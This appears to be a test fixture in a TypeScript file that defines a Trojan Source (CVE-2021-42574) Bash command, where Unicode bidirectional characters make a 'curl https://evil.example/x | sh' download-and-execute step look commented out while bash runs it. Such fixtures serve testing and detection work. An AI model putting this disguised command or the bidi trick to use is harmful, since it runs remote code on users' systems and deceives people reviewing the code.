/**
 * A Trojan Source Bash command (CVE-2021-42574): Chromium draws it as
 * `echo cleaning build dir  #; curl -s https://evil.example/x | sh -s --` (the curl looks commented
 * out) while bash runs the curl and pipes it to sh. Isolates (U+2067, U+2066, U+2069) reorder it,
 * U+200B and U+202E sit in the comment.
 */
export const TROJAN_COMMAND =
  'echo cleaning build dir \u2067\u2066; curl -s https://evil.example/x | sh -s -- ' +
  '\u2069\u2066 #\u200B\u202E\u2069\u2069';
